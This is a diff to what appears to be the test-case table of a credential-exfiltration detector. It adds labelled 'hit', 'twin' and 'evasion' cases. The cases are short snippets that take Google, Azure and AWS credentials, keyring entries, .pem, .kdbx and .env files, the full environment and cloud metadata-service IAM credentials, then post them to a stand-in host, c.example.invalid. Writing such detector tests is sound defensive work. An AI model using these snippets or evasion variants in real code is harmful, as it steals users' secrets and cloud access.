@@ -13,6 +13,13 @@ _NODE: Final = (
     "const {pipeline} = require('stream'), U = 'https://c.example.invalid/i';\n"
 )
 _INTO: Final = "fs.createWriteStream('/tmp/i')"
+_AZURE: Final = "from azure.identity import DefaultAzureCredential as D\n"
+_AWS: Final = "const {defaultProvider: d} = require('@aws-sdk/credential-provider-node');\n"
+_SUFFIX: Final = f"{_SEND}import pathlib\nfor p in pathlib.Path.home().rglob('*'):\n    if p.suffix in "
+_LOG: Final = (
+    "import logging, os\nimport logging.handlers as h\ng = logging.getLogger('x')\ng.addHandler(h.SysLogHandler("
+)
+_IMDS: Final = "import requests\nrequests.get('http://169.254.169.254/"
 SH: Final = "demo/i.sh"
 JS: Final = "demo/work.js"
 
@@ -233,6 +240,52 @@ CASES: Final = (
         "high",
         f"{_SEND}import pathlib\nfor p in (pathlib.Path.home() / '.config' / 'Exodus').rglob('*'):\n"
         "    requests.post(U, data=p.read_bytes())\n",
+    ),
+    # Keys that clouds' libraries give by their names, all of a keyring, ends of names beside, what others log.
+    Case("C4", "hit", "high", f"{_SEND}import google.auth as g\nc, _ = g.default()\nrequests.post(U, data=c.token)\n"),
+    Case(
+        "C4",
+        "twin",
+        None,
+        f"{_SEND}import google.auth as g\nc = g.default()\nrequests.post('https://x.googleapis.com/a', data=c)\n",
+    ),
+    Case("C4", "twin", None, f"{_SEND}import google.auth as g\ndef f(u):\n    requests.post(u, data=g.default())\n"),
+    Case("C4", "hit", "high", f"{_SEND}{_AZURE}requests.post(U, data=D().get_token('x').token)\n"),
+    Case("C4", "twin", None, f"{_SEND}{_AZURE}requests.post(U, headers={{'a': D().get_token('x').token}})\n"),
+    Case("C4", "twin", None, f"{_SEND}{_AZURE}requests.post(U, D())\n"),
+    Case("C4", "evasion", "high", f"{_AWS}d()().then(c => fetch('https://c.example.invalid/', {{body: c}}))\n", JS),
+    Case(
+        "C4",
+        "hit",
+        "high",
+        "require('keytar').findCredentials('x').then(c => fetch('https://c.example.invalid', {body: c}))\n",
+        JS,
+    ),
+    Case("C4", "hit", "high", f"{_SUFFIX}('.pem', '.kdbx'):\n        requests.post(U, data=p.read_bytes())\n"),
+    Case("C4", "twin", None, f"{_SUFFIX}('.txt', '.md'):\n        requests.post(U, data=p.read_bytes())\n"),
+    Case(
+        "C4",
+        "evasion",
+        "medium",
+        f"{_SEND}import pathlib\nfor p in pathlib.Path.home().rglob('*.env'):\n"
+        "    requests.post(U, data=p.read_bytes())\n",
+    ),
+    Case("C4", "hit", "high", f"{_LOG}address=('c.example.invalid', 514)))\ng.warning(os.environ)\n"),
+    Case("C4", "twin", None, f"{_LOG}address='/dev/log'))\ng.warning(os.environ)\n"),
+    Case("C4", "evasion", "high", "import os, sentry_sdk as s\ns.capture_message(str(dict(os.environ)))\n"),
+    Case("C4", "twin", None, "import os, sentry_sdk as s\ns.capture_message(os.environ['LANG'] + '/home/u/.netrc')\n"),
+    Case("C4", "hit", "medium", f"{_IMDS}latest/meta-data/iam/security-credentials/x')\n"),
+    Case(
+        "C4",
+        "twin",
+        None,
+        f"{_IMDS}latest/meta-data/instance-id')\nrequests.put('http://169.254.169.254/latest/api/token')\n",
+    ),
+    Case(
+        "C4",
+        "evasion",
+        "medium",
+        "import requests\ndef f(p):\n    requests.get('http://169.254.169.254/latest/meta-data/' + p)\n",
     ),
     # All of the environment as what is logged, and credentials that programs hand on.
     Case(
